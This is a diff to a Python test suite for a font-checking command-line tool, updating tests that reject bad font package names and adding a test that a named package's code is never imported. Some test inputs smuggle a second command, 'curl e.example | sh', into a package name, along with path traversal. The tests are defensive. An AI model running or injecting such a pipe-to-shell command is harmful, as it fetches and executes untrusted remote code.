@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import sys
 from collections.abc import Iterator
 from dataclasses import replace
 from pathlib import Path
@@ -214,11 +215,13 @@ def with_torn_characters(font: bytes) -> bytes:
         ("empty.otf", '"empty.otf" cannot be read as a font'),
         ("exercises/squat.md", '"exercises/squat.md" cannot be read as a font'),
         ("exercises", 'there is no font file "exercises" in the content folder'),
-        ("fontpkg-atkinson-hyperlegible.files", '"fontpkg-atkinson-hyperlegible.files" cannot be the name of'),
-        ("fontpkg-x; curl example.org | sh", '"fontpkg-x; curl example.org | sh" cannot be the name of'),
+        ("fontpkg-", '"fontpkg-" is no name of a font package'),
+        ("fontpkg-../../os", '"fontpkg-../../os" is no name of a font package'),
+        ("fontpkg-noto-sans.files", '"fontpkg-noto-sans.files" is no name of a font package'),
+        ("fontpkg-noto_sans", '"fontpkg-noto_sans" is no name of a font package'),
         ("torn.ttf", '"torn.ttf" cannot be read as a font'),
-        ("fontpkg-", '"fontpkg-" cannot be the name of a font package'),
-        ("fontpkg-../../os", '"fontpkg-../../os" cannot be the name of a font package'),
+        ("fontpkg-x; curl e.example | sh", '"fontpkg-x; curl e.example | sh" is no name of a font package'),
+        ("a" * 300 + ".ttf", "there is no font file"),
     ],
 )
 def test_no_such_font(name: str, message: str, project: Path, write: Write, run_cli: RunCli) -> None:
@@ -232,7 +235,20 @@ def test_no_such_font(name: str, message: str, project: Path, write: Write, run_
     told = run_cli("check")
     assert told.code == 1
     assert f"error[no-font]: {message}" in told.err
-    assert f"- {name}" in told.err
+    assert f"- {name[:40]}" in told.err
+    assert "pip install" not in told.err
+
+
+def test_a_font_package_runs_no_code(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """What content names is read as data: its files are found, and its program is never started."""
+    package = tmp_path / "fontpkg_of_a_stranger"
+    (package / "files").mkdir(parents=True)
+    (package / "__init__.py").write_text("raise SystemExit('this ran')", encoding="utf-8")
+    (package / "files/face.ttf").write_bytes(noto().read_bytes())
+    monkeypatch.syspath_prepend(str(tmp_path))
+    (face,) = further_faces("fontpkg-of-a-stranger", tmp_path)
+    assert face.file == package / "files/face.ttf"
+    assert "fontpkg_of_a_stranger" not in sys.modules
 
 
 def test_a_cut_off_font(tmp_path: Path) -> None:
